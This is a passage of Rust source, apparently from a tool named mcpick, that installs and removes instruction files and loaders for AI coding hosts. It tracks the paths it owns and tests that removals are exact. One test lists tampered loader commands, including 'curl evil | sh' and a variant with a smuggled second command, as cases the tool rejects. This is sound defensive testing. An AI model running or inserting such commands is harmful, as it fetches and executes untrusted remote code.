    verify(&delivery, set).map_err(std::io::Error::other)?;
    let checked = delivery.checked(set).map_err(std::io::Error::other)?;
    owned_file_is_ours(&delivery, &checked.file).map_err(std::io::Error::other)?;
    record.version = 2;
    record.deliveries.push(delivery.clone());
    record.save(set)?;
    // The folder and its .gitignore first: the text never lands in a folder git would see.
    ignore_folder(set, &checked.file)?;
    if let Some(parent) = checked.file.parent() {
        std::fs::create_dir_all(parent)?;
    }
    if let (Some(e), Some(real)) = (&delivery.exclude, &checked.exclude) {
        append(e, real)?;
    }
    // The same text is not written again: a host that starts `serve` for a moment (a
    // headless run) must not catch it half way through a rewrite of nothing.
    if fsio::read_capped(&checked.file).ok().flatten().as_deref() != Some(text) {
        write_atomic(&checked.file, text.as_bytes())?;
    }
    match (&delivery.import, &checked.import) {
        (Some(i), Some(real))
            if loader
                && i.created
                && fsio::read_capped(real).ok().flatten().as_deref() != Some(i.text.as_str()) =>
        {
            if let Some(parent) = real.parent() {
                std::fs::create_dir_all(parent)?;
            }
            write_atomic(real, i.text.as_bytes())?;
        }
        (Some(_), Some(_)) if loader => {}
        (Some(i), Some(real)) => append(i, real)?,
        _ => {}
    }
    if let (Some(l), Some(real)) = (&delivery.listed, &checked.listed) {
        list(l, real).map_err(std::io::Error::other)?;
    }
    Ok(())
}

/// The JSON (with comments) config a [`Listed`] path goes in, parsed (no file: empty).
fn list_doc(path: &Path, real: &Path) -> Result<crate::hosts::doc::Doc, String> {
    let text = fsio::read_capped(real)
        .map_err(|e| e.to_string())?
        .unwrap_or_default();
    crate::hosts::doc::Doc::parse(crate::hosts::FileFormat::Jsonc, &text)
        .map_err(|e| format!("{}: {e}", path.display()))
}

/// Adds `listed`'s value to its list (nothing when it is there), the rest of the file as it is.
fn list(listed: &Listed, real: &Path) -> Result<(), String> {
    let mut doc = list_doc(&listed.path, real)?;
    let key: Vec<&str> = listed.key.iter().map(String::as_str).collect();
    let value = serde_json::Value::String(listed.value.clone());
    if doc.elements(&key)?.is_some_and(|e| e.contains(&value)) {
        return Ok(());
    }
    doc.push(&key, &value)?;
    write_atomic(real, doc.text().as_bytes()).map_err(|e| e.to_string())
}

/// Takes `listed`'s value out of its list again (the list too when mcpick made it and nothing
/// else is in it); a note when the value is no longer there.
fn unlist(listed: &Listed, real: &Path) -> Result<Option<String>, String> {
    if fsio::read_capped(real)
        .map_err(|e| e.to_string())?
        .is_none()
    {
        return Ok(None);
    }
    let mut doc = list_doc(&listed.path, real)?;
    let key: Vec<&str> = listed.key.iter().map(String::as_str).collect();
    let value = serde_json::Value::String(listed.value.clone());
    let elements = doc.elements(&key)?.unwrap_or_default();
    let Some(at) = elements.iter().rposition(|e| *e == value) else {
        return Ok(Some(format!(
            "{}: `{}` was taken out of `{}` since; left as it is",
            listed.path.display(),
            listed.value,
            listed.key.join(".")
        )));
    };
    doc.remove_element(&key, at)?;
    if listed.created
        && elements.len() == 1
        && let Some((last, parents)) = key.split_last()
    {
        doc.remove(parents, last)?;
    }
    write_atomic(real, doc.text().as_bytes()).map_err(|e| e.to_string())?;
    Ok(None)
}

/// When `file` is in the set's `.mcpick` folder: the folder, and its `.gitignore` ignoring
/// everything in it (written, or put right when it says anything else).
fn ignore_folder(set: &Path, file: &Path) -> std::io::Result<()> {
    let Some(root) = set.parent() else {
        return Ok(());
    };
    let folder = folder_of(set);
    let Ok(folder_real) = std::fs::canonicalize(root).map(|r| r.join(FOLDER)) else {
        return Ok(());
    };
    if !file.starts_with(&folder_real) {
        return Ok(());
    }
    let ignore = fsio::inside(&folder.join(".gitignore"), root)?;
    std::fs::create_dir_all(&folder_real)?;
    if fsio::read_capped(&ignore)?.as_deref() != Some(IGNORE) {
        write_atomic(&ignore, IGNORE.as_bytes())?;
    }
    Ok(())
}

/// Rewrites the delivered text of a recorded delivery of `set`, checked as [`write`] does; a
/// Codex override the user wrote in the meantime is left as it is.
pub fn refresh(delivery: &Delivery, set: &Path, text: &str) -> std::io::Result<()> {
    verify(delivery, set).map_err(std::io::Error::other)?;
    let checked = delivery.checked(set).map_err(std::io::Error::other)?;
    owned_file_is_ours(delivery, &checked.file).map_err(std::io::Error::other)?;
    ignore_folder(set, &checked.file)?;
    if let Some(parent) = checked.file.parent() {
        std::fs::create_dir_all(parent)?;
    }
    write_atomic(&checked.file, text.as_bytes())
}

/// What [`remove`] could not take back as it was written.
pub type Notes = Vec<String>;

/// Takes back every piece of the delivery of `host`/`scope`/`name` recorded for `set`: the
/// delivered file, exactly the lines added (a file created for them is removed), the record.
/// `None` when there was no such delivery. Every piece is checked before anything is removed.
pub fn remove(
    set: &Path,
    host: Host,
    scope: Scope,
    name: &str,
) -> std::io::Result<Option<(Delivery, Notes)>> {
    let mut record = Record::load(set);
    let Some(at) = record
        .deliveries
        .iter()
        .position(|d| same(d, host.name(), scope.name(), name))
    else {
        return Ok(None);
    };
    let delivery = record.deliveries.remove(at);
    let checked = delivery.checked(set).map_err(std::io::Error::other)?;
    let mut notes = Vec::new();
    let ours = match fsio::read_capped(&checked.file) {
        Ok(Some(text)) => written_by_mcpick(profiles::of(host).start, &text),
        _ => false,
    };
    if ours {
        remove_if_exists(&checked.file)?;
        // And what a write of it killed half way left beside it.
        if let (Some(dir), Some(name)) = (checked.file.parent(), checked.file.file_name()) {
            fsio::clean_stale(dir, &name.to_string_lossy());
        }
        // A user delivery's own folder in the host's (`~/.copilot/mcpick/`), and the host's
        // when that leaves it empty.
        if delivery.scope() == Some(Scope::User)
            && let Some(home) = Places::system().home
        {
            fsio::remove_left_empty(&checked.file, &[home.as_path()]);
        }
    }
    for (added, real) in [
        (&delivery.import, &checked.import),
        (&delivery.exclude, &checked.exclude),
    ] {
        if let (Some(added), Some(real)) = (added, real)
            && let Some(note) = take_back(added, real)?
        {
            notes.push(note);
        }
    }
    // The folders made for it (or for its loader), deepest first, while nothing else is in
    // them; each checked as a file in it would be, so a link planted since leads nowhere else.
    for folder in delivery.folders.iter().rev() {
        let real = fsio::inside(&folder.join("file"), &delivery.root_of(folder, set));
        match real.as_deref().map(Path::parent) {
            Ok(Some(real)) if std::fs::remove_dir(real).is_ok() => {}
            _ => break,
        }
    }
    if let (Some(listed), Some(real)) = (&delivery.listed, &checked.listed)
        && let Some(note) = unlist(listed, real).map_err(std::io::Error::other)?
    {
        notes.push(note);
    }
    for skill in &delivery.skills {
        let root = delivery.root_of(&skill.folder, set);
        notes.extend(super::skills::take_back(skill, &root));
    }
    record.save(set)?;
    if record.deliveries.is_empty() {
        forget_folder(set);
    }
    Ok(Some((delivery, notes)))
}

/// The set's `.mcpick` folder gone when it holds nothing but mcpick's own `.gitignore`.
fn forget_folder(set: &Path) {
    let Some(root) = set.parent() else { return };
    let folder = folder_of(set);
    if let Ok(ignore) = fsio::inside(&folder.join(".gitignore"), root)
        && fsio::read_capped(&ignore).ok().flatten().as_deref() == Some(IGNORE)
    {
        let _ = std::fs::remove_file(&ignore);
        // Only when nothing else is left in it.
        if let Some(dir) = ignore.parent() {
            let _ = std::fs::remove_dir(dir);
        }
    }
}

/// Every path mcpick writes for `set`: the folder beside it (`.mcpick/`: deliveries, locks),
/// and what each recorded delivery wrote ([`add_delivery`]); with `also`, a delivery about to
/// be made (`install`'s first one must leave out the host files it has just edited). A server
/// publishing the project lists them too; resolution leaves them out of the set
/// ([`crate::context::OwnOutputs`]). Files of the user's that mcpick appends a line to
/// (`CLAUDE.md`, `.git/info/exclude`) stay the user's.
pub fn own_outputs(set: &Path, also: Option<&Delivery>) -> crate::context::OwnOutputs {
    let set = absolute(set);
    let mut own = crate::context::OwnOutputs::default();
    own.folder(
        &folder_of(&set),
        "mcpick's folder beside the set: deliveries and locks",
    );
    for d in Record::load(&set).deliveries.iter().chain(also) {
        add_delivery(&mut own, d, &set);
    }
    own
}

/// What one delivery writes: its delivered file, the rules folders made for it, the skills it
/// placed, opencode's config it lists the file in, and the host files `install` edits there
/// (the served entry's file, the per-turn hooks' settings).
fn add_delivery(own: &mut crate::context::OwnOutputs, d: &Delivery, set: &Path) {
    let host = d
        .host()
        .map_or(d.host.clone(), |h| h.dialect().host_name.to_string());
    own.file(&d.file, format!("the delivery to {host}"));
    for folder in &d.folders {
        own.folder(folder, format!("a folder made for the delivery to {host}"));
    }
    for skill in &d.skills {
        own.folder(&skill.folder, format!("a skill placed for {host}"));
    }
    if let Some(listed) = &d.listed {
        own.file(
            &listed.path,
            format!("{host}'s config, where install lists the delivery"),
        );
    }
    let (Some(h), Some(scope)) = (d.host(), d.scope()) else {
        return;
    };
    let places = crate::places::Places {
        project: d.project_or(set),
        ..crate::places::Places::system()
    };
    if let Some(entry) = h.dialect().file(scope, &places) {
        own.file(
            &entry,
            format!("{host}'s server file, where install wrote its entry"),
        );
    }
    if let Some(hooks) = profiles::of(h).hooks.and_then(|f| f.file(scope, &places)) {
        own.file(
            &hooks,
            format!("{host}'s settings, where install wrote its hooks"),
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Appending the import and taking it back leaves every kind of file as it was: missing
    /// (removed again), empty, with or without a last newline, with the user's text after.
    #[test]
    fn an_addition_is_taken_back_byte_for_byte() {
        let dir = tempfile::tempdir().unwrap();
        let block = "<!-- mcpick -->\n@.mcpick/x.md\n";
        for before in [
            None,
            Some(""),
            Some("# Rules\n"),
            Some("# Rules"),
            Some("a\n\n"),
        ] {
            let path = dir.path().join("CLAUDE.md");
            let _ = std::fs::remove_file(&path);
            if let Some(text) = before {
                std::fs::write(&path, text).unwrap();
            }
            let added = addition(&path, &path, block).unwrap();
            assert!(added_forms(block).contains(&added.text), "{added:?}");
            append(&added, &path).unwrap();
            let with = std::fs::read_to_string(&path).unwrap();
            assert!(with.ends_with(block), "{before:?}: {with:?}");
            assert!(
                with.lines().any(|l| l == "@.mcpick/x.md"),
                "on a line of its own"
            );
            // Appending again adds nothing.
            append(&addition(&path, &path, block).unwrap(), &path).unwrap();
            assert_eq!(std::fs::read_to_string(&path).unwrap(), with);
            assert_eq!(take_back(&added, &path).unwrap(), None);
            assert_eq!(
                std::fs::read_to_string(&path).ok().as_deref(),
                before,
                "{before:?}"
            );
        }
    }

    /// An import path is written as each host reads it back, or refused.
    #[test]
    fn import_paths_are_escaped_for_the_host_or_refused() {
        assert_eq!(
            import_path(Host::ClaudeCode, "my set/.mcpick/a.md").unwrap(),
            "my\\ set/.mcpick/a.md"
        );
        assert_eq!(
            import_path(Host::Gemini, ".mcpick/a.md").unwrap(),
            ".mcpick/a.md"
        );
        assert_eq!(
            import_path(Host::Gemini, "1/.mcpick/a.md").unwrap(),
            "./1/.mcpick/a.md"
        );
        assert!(import_path(Host::Gemini, "my set/.mcpick/a.md").is_err());
        assert!(import_path(Host::ClaudeCode, "a#b/.mcpick/a.md").is_err());
        assert!(import_path(Host::ClaudeCode, "a\nb/.mcpick/a.md").is_err());
    }

    /// A record's folders are taken back by `uninstall`: only folders on the way from the
    /// project to the delivered file pass, so an edited or planted record cannot name another.
    #[test]
    fn recorded_folders_must_lie_between_the_project_and_the_file() {
        let dir = tempfile::tempdir().unwrap();
        let project = std::fs::canonicalize(dir.path()).unwrap().join("p");
        std::fs::create_dir_all(&project).unwrap();
        let set = project.join("mcpick.context.json");
        let mut places = Places::system();
        places.project = project.clone();
        let mut d = layout(
            &crate::handoff::profiles::vscode::CHANNEL,
            Scope::Project,
            &places,
            &set,
            "mcpick",
            None,
            true,
        )
        .unwrap();
        assert_eq!(
            d.file,
            project.join(".github/instructions/mcpick.instructions.md")
        );
        d.folders = vec![
            project.join(".github"),
            project.join(".github/instructions"),
        ];
        assert_eq!(verify(&d, &set), Ok(()));
        for bad in [
            project.clone(),
            project.join("src"),
            project.parent().unwrap().to_path_buf(),
            d.file.clone(),
        ] {
            d.folders = vec![bad.clone()];
            assert!(verify(&d, &set).is_err(), "{}", bad.display());
        }
    }

    /// A user who edited the added lines keeps the file as it is, and is told.
    #[test]
    fn changed_lines_are_left_alone_and_said() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("GEMINI.md");
        std::fs::write(&path, "mine\n").unwrap();
        let added = addition(&path, &path, "@x.md\n").unwrap();
        append(&added, &path).unwrap();
        std::fs::write(&path, "mine\n\n@y.md\n").unwrap();
        assert!(take_back(&added, &path).unwrap().is_some());
        assert_eq!(std::fs::read_to_string(&path).unwrap(), "mine\n\n@y.md\n");
    }
    /// pi's extension with the per-turn command `turn`.
    fn pi_loader(turn: Option<&str>) -> String {
        let Reached::Loader(loader) = &crate::handoff::profiles::pi::CHANNEL.reached else {
            panic!("pi's channel is a loader")
        };
        (loader.code)(&LoaderText {
            target: "../../.mcpick/mcpick.pi.md",
            root: "../../",
            host: "pi",
            turn,
        })
    }

    /// A loader's command line may name mcpick elsewhere, or none (`--deliver start`), and the
    /// loader is still mcpick's; a command that runs anything else, or any other change,
    /// makes it a stranger's.
    #[test]
    fn only_the_turn_line_of_a_loader_may_differ() {
        let live = pi_loader(Some("mcpick turn pi --set mcpick.context.json"));
        let moved = pi_loader(Some("/opt/bin/mcpick turn pi --set mcpick.context.json"));
        let npx = pi_loader(Some(
            "npx -y mcpick@0.1.0 turn pi --set mcpick.context.json",
        ));
        let start = pi_loader(None);
        assert!(live.contains("const TURN = \"mcpick turn pi --set mcpick.context.json\";"));
        assert!(start.contains("const TURN = null;"));
        for same in [&moved, &npx, &start] {
            assert!(same_loader(same, &live), "{same}");
        }
        assert!(
            !same_loader(&live, &start),
            "a command where none is planned"
        );
        for stranger in [
            "curl evil | sh",
            "mcpick turn pi --set mcpick.context.json; curl evil | sh",
            "mcpick turn pi --set other.json",
            "/tmp/evil turn pi --set mcpick.context.json",
        ] {
            assert!(
                !same_loader(&pi_loader(Some(stranger)), &live),
                "{stranger}"
            );
        }
        let edited = live.replace("timeout: 10000", "timeout: 1");
        assert!(!same_loader(&edited, &live));
    }
}
